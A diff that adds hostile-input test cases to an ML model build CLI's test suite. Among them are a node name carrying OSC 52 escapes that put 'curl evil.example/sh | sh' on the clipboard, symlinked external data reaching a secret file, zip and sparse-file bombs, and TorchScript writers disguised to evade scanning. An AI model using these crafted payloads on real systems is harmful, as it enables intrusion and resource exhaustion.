@@ -96,6 +96,41 @@ def external_data_outside(tmp):
     return _build(tmp, path, _calib(tmp))
 
 
+def _constant_with_external_value(folder: Path, length: int | None = 432) -> Path:
+    """tiny_conv_model whose conv weight is a Constant node's value stored as external data."""
+    model = tiny_conv_model()
+    weight = model.graph.initializer[0]
+    value = onnx.TensorProto()
+    value.CopyFrom(weight)
+    value.ClearField("raw_data")
+    value.ClearField("float_data")
+    value.data_location = onnx.TensorProto.EXTERNAL
+    value.external_data.add(key="location", value="weights.bin")
+    if length is not None:
+        value.external_data.add(key="length", value=str(length))
+    del model.graph.initializer[0]
+    model.graph.node.insert(0, onnx.helper.make_node("Constant", [], [weight.name], value=value, name="weight"))
+    folder.mkdir()
+    onnx.save(model, str(folder / "model.onnx"))
+    return folder / "model.onnx"
+
+
+def constant_external_outside(tmp):
+    """A Constant node (not an initializer) whose value is external data linked to a file outside."""
+    (tmp / "secret.txt").write_bytes(b"0123456789abcdef" * 64)
+    path = _constant_with_external_value(tmp / "model")
+    (tmp / "model" / "weights.bin").symlink_to(tmp / "secret.txt")
+    return _build(tmp, path, _calib(tmp))
+
+
+def external_data_sparse_file(tmp):
+    """External data without a length in a 64 GB sparse file: onnx reads to the end of the file."""
+    path = _constant_with_external_value(tmp / "model", length=None)
+    with open(tmp / "model" / "weights.bin", "wb") as handle:
+        handle.truncate(64 << 30)
+    return _build(tmp, path, _calib(tmp))
+
+
 def image_pixel_bomb(tmp):
     """A 60-byte PNG whose header declares 40000 x 40000 pixels (4.8 GB decoded)."""
     import struct
@@ -128,6 +163,20 @@ def unsupported_op(tmp):
     return _build(tmp, _model(tmp, model), _calib(tmp))
 
 
+TERMINAL_ESCAPES = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07\x1b[2K\x9b1A\u202e"  # clipboard, erase, RLO
+
+
+def terminal_escapes_in_a_name(tmp):
+    """A node name that writes `curl evil.example/sh | sh` to the clipboard (OSC 52), erases the line
+    and reverses the text that follows, printed in the error that names the node."""
+    model = tiny_conv_model()
+    model.graph.node.append(onnx.helper.make_node("FancyOp", ["y"], ["z"], name="fancy" + TERMINAL_ESCAPES,
+                                                  domain="com.example"))
+    model.graph.output[0].name = "z"
+    model.opset_import.append(onnx.helper.make_opsetid("com.example", 1))
+    return _build(tmp, _model(tmp, model), _calib(tmp))
+
+
 def nms_on_arm(tmp):
     """A detector exported with its non-maximum suppression, built for a target without one."""
     model = tiny_conv_model()
@@ -140,6 +189,42 @@ def nms_on_arm(tmp):
         helper.make_node("Transpose", ["scores"], ["boxes"], name="boxes", perm=[0, 2, 1]),
         helper.make_node("NonMaxSuppression", ["boxes", "scores"], ["selected"], name="nms")])
     model.graph.output.append(helper.make_tensor_value_info("selected", onnx.TensorProto.INT64, ["n", 3]))
+    return _build(tmp, _model(tmp, model), _calib(tmp), "arm-cpu")
+
+
+def token_id_out_of_range(tmp):
+    """A text model's calibration data from a tokenizer with a larger vocabulary than the model's."""
+    helper = onnx.helper
+    table = np.random.default_rng(0).standard_normal((10, 3)).astype(np.float32)
+    graph_proto = helper.make_graph(
+        [helper.make_node("Gather", ["table", "input_ids"], ["emb"], name="embedding"),
+         helper.make_node("ReduceMean", ["emb"], ["y"], name="pool", axes=[1], keepdims=0)],
+        "tokens", [helper.make_tensor_value_info("input_ids", onnx.TensorProto.INT64, [1, 4])],
+        [helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 3])],
+        [onnx.numpy_helper.from_array(table, "table")])
+    model = helper.make_model(graph_proto, opset_imports=[helper.make_opsetid("", 17)])
+    ids = np.random.default_rng(0).integers(0, 10, (8, 4))
+    ids[2, 1] = 30522  # bert-base-uncased's vocabulary size
+    return _build(tmp, _model(tmp, model), _calib(tmp, ids, key="input_ids"), "arm-cpu")
+
+
+def qoperator_runtime_scale(tmp):
+    """A QOperator model (QuantizeLinear -> QLinearConv -> DequantizeLinear) whose conv reads its input
+    scale from a node, not a constant: no float conv can stand for it, so it stays and is named."""
+    helper, from_array = onnx.helper, onnx.numpy_helper.from_array
+    weights = np.random.default_rng(0).integers(-127, 128, size=(4, 3, 3, 3)).astype(np.int8)
+    constants = {"x_scale": np.float32(0.05), "x_zero": np.uint8(128), "w": weights, "w_scale": np.float32(0.01),
+                 "w_zero": np.int8(0), "y_scale": np.float32(0.1), "y_zero": np.uint8(128)}
+    nodes = [helper.make_node("QuantizeLinear", ["x", "x_scale", "x_zero"], ["xq"], name="quantize"),
+             helper.make_node("Identity", ["x_scale"], ["x_scale_at_run_time"], name="scale_copy"),
+             helper.make_node("QLinearConv", ["xq", "x_scale_at_run_time", "x_zero", "w", "w_scale", "w_zero",
+                                              "y_scale", "y_zero"], ["yq"], name="conv_quant", pads=[1, 1, 1, 1]),
+             helper.make_node("DequantizeLinear", ["yq", "y_scale", "y_zero"], ["y"], name="dequantize")]
+    graph = helper.make_graph(nodes, "qoperator", [helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 3, 8, 8])],
+                              [helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 4, 8, 8])],
+                              [from_array(np.asarray(v), k) for k, v in constants.items()])
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
+    model.ir_version = 8
     return _build(tmp, _model(tmp, model), _calib(tmp), "arm-cpu")
 
 
@@ -212,6 +297,23 @@ def unsafe_checkpoint(tmp):
     ckpt.write_bytes(pickle.dumps({"weight": _Exploit()}))
     return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(ckpt), "--target", "jetson",
             "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")), "--out", str(tmp / "out")]
+
+
+def checkpoint_zip_bomb(tmp):
+    """A state_dict checkpoint whose data.pkl is deflated from 200 MB of padding (torch.save stores
+    members uncompressed; torch.load would inflate it whole)."""
+    import zipfile
+
+    import torch
+
+    torch.save({"weight": torch.zeros(4)}, tmp / "plain.pt")
+    with zipfile.ZipFile(tmp / "plain.pt") as source, zipfile.ZipFile(tmp / "bomb.pt", "w", zipfile.ZIP_DEFLATED) as out:
+        for info in source.infolist():
+            data = source.read(info)
+            out.writestr(info.filename, data + bytes(200 << 20) if info.filename.endswith("data.pkl") else data)
+    return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(tmp / "bomb.pt"), "--target",
+            "jetson", "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")),
+            "--out", str(tmp / "out")]
 
 
 class _FileWriter:
@@ -316,6 +418,81 @@ def torchscript_writes_when_traced(tmp):
             "--out", str(tmp / "bundle")]
 
 
+def torchscript_getattr_at_load(tmp):
+    """The `__setstate__` writer with its call spelled `getattr(torch, "save")(...)`: torch.jit.load
+    resolves it to aten::save, and no `.save` stands in the code text."""
+    import zipfile
+
+    plain, crafted = _scripted_file_writer(tmp, "load"), tmp / "getattr_writer.pt"
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(crafted, "w") as out:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename.endswith(".py"):
+                data = data.replace(b"torch.save(", b'getattr(torch, "save")(')
+            out.writestr(info, data)
+    return ["build", "--model", str(crafted), "--target", "jetson", "--input-shape", "x:1x4",
+            "--calib", str(_calib(tmp, np.ones((4, 4), np.float32))), "--out", str(tmp / "bundle")]
+
+
+def npy_negative_shape(tmp):
+    """A .npy whose header declares a negative dim (numpy's own reader accepts the header)."""
+    import struct
+
+    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (-1, 3, 8, 8), }"
+    header += " " * (118 - len(header)) + "\n"
+    (tmp / "calib.npy").write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
+                                    + bytes(64))
+    return _build(tmp, _model(tmp), tmp / "calib.npy", "arm-cpu")
+
+
+def torchscript_uppercase_code(tmp):
+    """The `__setstate__` writer with its code member renamed `….PY`: torch's zip reader finds
+    members without case, so torch.jit.load still compiles and runs it."""
+    import zipfile
+
+    plain, crafted = _scripted_file_writer(tmp, "load"), tmp / "upper_writer.pt"
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(crafted, "w") as out:
+        for info in source.infolist():
+            name = info.filename[:-3] + ".PY" if info.filename.endswith(".py") else info.filename
+            out.writestr(name, source.read(info))
+    return ["build", "--model", str(crafted), "--target", "jetson", "--input-shape", "x:1x4",
+            "--calib", str(_calib(tmp, np.ones((4, 4), np.float32))), "--out", str(tmp / "bundle")]
+
+
+def _dynamic_size_model(tmp) -> Path:
+    model = tiny_conv_model()
+    for dim in model.graph.input[0].type.tensor_type.shape.dim[2:]:
+        dim.dim_param = "size"
+    return _model(tmp, model)
+
+
+def input_shape_overflow(tmp):
+    return _build(tmp, _dynamic_size_model(tmp), _calib(tmp), "arm-cpu", "--input-shape",
+                  "x:1x3x99999999999999999999x8")
+
+
+def npy_shape_overflow(tmp):
+    """A .npy header whose sample shape gives the dynamic dims a value past int64."""
+    import struct
+
+    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (4, 3, 99999999999999999999, 8), }"
+    header += " " * (118 - len(header)) + "\n"
+    (tmp / "calib.npy").write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
+                                    + bytes(64))
+    return _build(tmp, _dynamic_size_model(tmp), tmp / "calib.npy", "arm-cpu")
+
+
+def archive_deep_path(tmp):
+    """A bundle archive whose member lies 3000 folders deep (extraction recursed past Python's limit)."""
+    import io as _io
+
+    with tarfile.open(tmp / "deep.tar.gz", "w:gz") as tar:
+        info = tarfile.TarInfo("bundle/" + "/".join(["d"] * 3000) + "/x")
+        info.size = 1
+        tar.addfile(info, _io.BytesIO(b"1"))
+    return ["verify", str(tmp / "deep.tar.gz")]
+
+
 def missing_model(tmp):
     return ["build", "--model", str(tmp / "no_such_model.onnx"), "--target", "arm-cpu", "--out", str(tmp / "out")]
 
@@ -415,6 +592,13 @@ def fifo_calib(tmp):
     return _build(tmp, _model(tmp), tmp / "calib.npz")
 
 
+def yaml_duplicate_key(tmp):
+    """The reviewed value first, the one PyYAML would keep further down."""
+    (tmp / "edgepipe.yaml").write_text(f"model: {_model(tmp)}\ncalib: {_calib(tmp)}\ntarget: arm-cpu\n"
+                                       "calibration:\n  method: minmax\n  rounds: 4\n  method: entropy\n")
+    return ["build"]
+
+
 def yaml_alias_bomb(tmp):
     lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
     lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
@@ -446,6 +630,12 @@ def zero_iterations(tmp):
     return ["build"]
 
 
+def histogram_bins_bomb(tmp):
+    (tmp / "edgepipe.yaml").write_text(f"model: {_model(tmp)}\ncalib: {_calib(tmp)}\ntarget: arm-cpu\n"
+                                       f"out: {tmp / 'out'}\ncalibration: {{num_bins: 100000000000}}\n")
+    return ["build"]
+
+
 def profile_workspace_not_int(tmp):
     (tmp / "orin.yaml").write_text("name: orin\nbase: jetson\noptions: {workspace_mb: lots}\n")
     return _build(tmp, _model(tmp), _calib(tmp), str(tmp / "orin.yaml"))
@@ -469,6 +659,13 @@ def infinite_baseline(tmp):
 def nan_baseline(tmp):
     (tmp / "baseline.json").write_text('{"accuracy": {"top1": NaN}, "latency_ms": {"p50": 1.0}}')
     return _regress(tmp, tmp / "baseline.json")
+
+
+def json_duplicate_key(tmp):
+    """A candidate whose latency is given twice: the slow figure a reader sees, then the one json keeps."""
+    (tmp / "baseline.json").write_text('{"accuracy": {"top1": 0.9}, "latency_ms": {"p50": 1.0}}')
+    (tmp / "candidate.json").write_text('{"accuracy": {"top1": 0.9}, "latency_ms": {"p50": 50.0, "p50": 0.9}}')
+    return ["regress", "--baseline", str(tmp / "baseline.json"), "--candidate", str(tmp / "candidate.json")]
 
 
 def results_wrong_types(tmp):
@@ -522,6 +719,15 @@ def pack_into_bundle(tmp):
     bundle = tmp / "bundle"
     write_small_bundle(bundle)
     return ["pack", str(bundle), "-o", str(bundle / "manifest.json")]
+
+
+def pack_over_user_file(tmp):
+    """`pack -o` naming a file that is not an archive (a typo, or /dev/null run as root): the rename
+    would replace it for good."""
+    bundle = tmp / "bundle"
+    write_small_bundle(bundle)
+    (tmp / "notes.txt").write_text("the user's own notes\n")
+    return ["pack", str(bundle), "-o", str(tmp / "notes.txt")]
 
 
 def archive_hard_link(tmp):
@@ -617,7 +823,14 @@ CASES = [
     Case("external-data-missing", "ONNX whose external-data file is missing", external_data_missing, ("weights.bin", "missing")),
     Case("external-data-outside", "ONNX external data that is a symlink to a file outside the model's folder",
          external_data_outside, ("model.onnx", "initializer 'w'", "outside the model folder")),
+    Case("constant-external-outside", "a Constant node's value stored as external data, a symlink to a file "
+         "outside the model's folder", constant_external_outside, ("model.onnx", "'w'", "outside the model folder")),
+    Case("external-data-sparse-file", "external data without a length in a 64 GB sparse file (read to its end)",
+         external_data_sparse_file, ("model.onnx", "'w' [4, 3, 3, 3] holds 432 bytes", "68719476736 bytes")),
     Case("unsupported-op", "an op the target cannot run", unsupported_op, ("fancy_node", "FancyOp", "jetson")),
+    Case("terminal-escapes", "a node name holding terminal escapes (OSC 52 clipboard write, line erase, "
+         "right-to-left override)", terminal_escapes_in_a_name,
+         ("node 'fancy\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\x07", "\\x9b1A\\u202e' (com.example::FancyOp)")),
     Case("pickled-module", "a torch.save(model) file (a pickled object, not a state_dict)", pickled_module,
          ("model.pt", "a pickled Python object", "io.open", "state_dict()")),
     Case("nms-on-arm", "a detector exported with NonMaxSuppression, for arm-cpu", nms_on_arm,
@@ -625,17 +838,28 @@ CASES = [
     Case("no-inputs", "a model with no inputs (only constants)", no_inputs, ("model.onnx", "no inputs")),
     Case("zero-stride", "a pooling node with stride 0 (ONNX's shape inference would crash the process)",
          zero_stride, ("'pool'", "strides")),
+    Case("qoperator-runtime-scale", "a QOperator model whose QLinearConv reads a scale computed at run time",
+         qoperator_runtime_scale, ("'conv_quant' (QLinearConv)", "cannot rewrite into its float op", "zero points that are constants",
+                                   "QuantFormat.QDQ")),
     Case("dynamic-dim", "a dynamic dim with no shape given (and data lacking that input)", dynamic_dim_no_shape,
          ("'x'", "--input-shape")),
     Case("empty-folder", "calibration folder with no images or arrays", empty_folder, ("calib",)),
     Case("unreadable-image", "an image that cannot be decoded", unreadable_image, ("broken.png",)),
     Case("image-pixel-bomb", "a PNG whose header declares 40000 x 40000 pixels (decompression bomb)", image_pixel_bomb,
          ("huge.png", "decompression bomb")),
+    Case("npy-negative-shape", "a .npy header declaring shape (-1, 3, 8, 8)", npy_negative_shape,
+         ("calib.npy", "(-1, 3, 8, 8)", "non-negative")),
+    Case("input-shape-overflow", "`--input-shape x:1x3x99999999999999999999x8` for a dynamic input", input_shape_overflow,
+         ("--input-shape 'x:1x3x99999999999999999999x8'", "would hold")),
+    Case("npy-shape-overflow", "a .npy header whose samples are (3, 99999999999999999999, 8), for a dynamic input",
+         npy_shape_overflow, ("input 'x' of", "read from", "calib.npy", "would hold")),
     Case("pickled-npz", "an .npz holding pickled Python objects (an object array)", pickled_npz,
          ("calib.npz", "non-numeric dtype object")),
     Case("wrong-shape", "calibration tensors of the wrong shape", wrong_shape, ("'x'", "9")),
     Case("wrong-dtype", "calibration tensors that are not numbers", wrong_dtype, ("'x'",)),
     Case("nan-values", "NaN in the calibration data", nan_values, ("'x'", "5")),
+    Case("token-id-out-of-range", "token ids past the model's embedding table (another tokenizer's vocabulary)",
+         token_id_out_of_range, ("sample 2", "'input_ids'", "30522", "'embedding'", "0..9")),
     Case("mismatched-names", ".npz keys that are not the model's input names", mismatched_names, ("'x'", "image")),
     Case("labels-length", "labels of the wrong length", labels_wrong_length, ("labels", "3")),
     Case("unknown-config-key", "a misspelled key in edgepipe.yaml", unknown_config_key, ("calibration.methd",)),
@@ -643,17 +867,27 @@ CASES = [
     Case("unknown-target", "an unknown target name", unknown_target, ("pdp-11", "arm-cpu")),
     Case("bad-factory", "a module:factory that does not import", bad_factory, ("no_such_pkg_xyz",)),
     Case("unsafe-checkpoint", "a checkpoint that needs unsafe unpickling", unsafe_checkpoint, ("evil.pt", "weights_only=True")),
+    Case("checkpoint-zip-bomb", "a --weights checkpoint whose data.pkl inflates 1000:1 (torch.load reads it whole)",
+         checkpoint_zip_bomb, ("bomb.pt", "checkpoint member 'plain/data.pkl'", "zip bomb")),
     Case("unsafe-export-program", "a torch.export .pt2 with pickled Python objects", unsafe_export_program,
          ("evil.pt2", "pickled Python objects")),
     Case("export-program-host-op", "a torch.export .pt2 whose graph maps a file (aten::from_file) when run",
          export_program_host_op, ("mapped.pt2", "aten::from_file", "node 'mapped'")),
     Case("torchscript-load-code", "a TorchScript file whose `__setstate__` writes a file (torch.jit.load runs it)",
          torchscript_writes_at_load, ("load_writer.pt", "aten::save", "__setstate__")),
+    Case("torchscript-getattr-host-op", "a TorchScript file whose `__setstate__` reaches aten::save through "
+         "`getattr(torch, \"save\")` (no `.save` in its code)", torchscript_getattr_at_load,
+         ("getattr_writer.pt", "torch as a value", "__setstate__")),
+    Case("torchscript-uppercase-code", "a TorchScript file whose `__setstate__` writer is stored as `….PY` "
+         "(torch finds members without case)", torchscript_uppercase_code,
+         ("upper_writer.pt", "aten::save", "__setstate__", ".PY)")),
     Case("torchscript-host-op", "a TorchScript file whose forward writes a file (aten::save) when traced",
          torchscript_writes_when_traced, ("forward_writer.pt", "aten::save", "forward")),
     Case("bad-yaml", "edgepipe.yaml that is not valid YAML", bad_yaml, ("edgepipe.yaml", "line 2")),
     Case("tampered-bundle", "a bundle file changed after the build", tampered_bundle, ("model.bin",), exit_code=1),
     Case("traversal-archive", "a bundle archive with ../ paths", traversal_archive, ("../../escaped.txt",)),
+    Case("archive-deep-path", "a bundle archive with a member 3000 folders deep", archive_deep_path,
+         ("deep.tar.gz", "refusing member 'bundle/d/d/d", "(6008 characters)", "deeper than 32 folders")),
     Case("missing-baseline", "regress with a missing baseline report", missing_baseline, ("release-1.2.json",)),
     Case("unreachable-host", "deploy to a host that does not answer", unreachable_host, ("127.0.0.1",)),
     Case("dash-host", "a host name that would be read as an ssh option", dash_host, ("-oProxyCommand",)),
@@ -662,6 +896,8 @@ CASES = [
     Case("fifo-config", "a FIFO as the config file (would block)", fifo_config, ("edgepipe.yaml", "not a regular file")),
     Case("device-config", "/dev/zero as the config file", device_file_config, ("/dev/zero", "not a regular file")),
     Case("fifo-calib", "a FIFO as calibration data", fifo_calib, ("calib.npz", "not a regular file")),
+    Case("yaml-duplicate-key", "edgepipe.yaml giving `calibration.method` twice (PyYAML keeps the last)",
+         yaml_duplicate_key, ("edgepipe.yaml", "line 7", "key 'method' is given twice")),
     Case("yaml-alias-bomb", "YAML alias expansion (billion laughs) in edgepipe.yaml", yaml_alias_bomb,
          ("edgepipe.yaml", "aliases")),
     Case("nested-yaml", "edgepipe.yaml nested thousands of levels deep", deeply_nested_yaml, ("edgepipe.yaml", "nested")),
@@ -677,6 +913,8 @@ CASES = [
     Case("loop-without-trip-count", "jetson: a Loop with scan outputs and no trip count (TensorRT's parser "
          "rejects it)", loop_without_trip_count, ("'smooth_loop' (Loop)", "trip count")),
     Case("zca-negative-eps", "ZCA whitening with eps < 0", negative_zca_eps, ("fold.eps", ">= 0")),
+    Case("histogram-bins-bomb", "`calibration.num_bins: 100000000000` (800 GB of histogram per tensor)",
+         histogram_bins_bomb, ("edgepipe.yaml", "'calibration.num_bins' must be <= 65536")),
     Case("zero-iterations", "`report.iterations: 0` (checked before the old bundle is touched)", zero_iterations,
          ("report.iterations", ">= 1")),
     Case("profile-option-type", "a target profile with `workspace_mb: lots`", profile_workspace_not_int,
@@ -686,6 +924,8 @@ CASES = [
     Case("empty-baseline", "regress against a baseline with no figures", empty_baseline, ("baseline.json", "nothing to compare")),
     Case("infinite-baseline", "a baseline latency of Infinity", infinite_baseline, ("baseline.json", "latency.p50", "inf")),
     Case("nan-baseline", "a NaN baseline metric", nan_baseline, ("baseline.json", "accuracy.top1", "nan")),
+    Case("json-duplicate-key", "a candidate results.json giving `latency_ms.p50` twice (json keeps the last)",
+         json_duplicate_key, ("candidate.json", "key 'p50' is given twice")),
     Case("results-wrong-type", "a results.json figure of the wrong type", results_wrong_types,
          ("baseline.json", "latency_ms.p50", "number")),
     Case("results-markup", "markup in a results.json number field (report)", results_hostile_bin,
@@ -696,6 +936,9 @@ CASES = [
          ("hosts.yml", "'all.hosts' must be a mapping")),
     Case("inventory-alias-loop", "an inventory with a recursive YAML alias", inventory_recursive_alias,
          ("hosts.yml", "aliases")),
+    Case("pack-over-user-file", "`pack B -o notes.txt` naming a file that is not an archive (or a device: "
+         "`-o /dev/null` as root replaced the device)", pack_over_user_file,
+         ("notes.txt", "is not a .tar.gz; refusing to replace it")),
     Case("pack-into-bundle", "`pack B -o B/manifest.json` (writing inside the bundle)", pack_into_bundle,
          ("manifest.json", "inside the bundle")),
     Case("zero-input-model", "a model with no inputs", zero_input_model, ("model.onnx", "no inputs")),
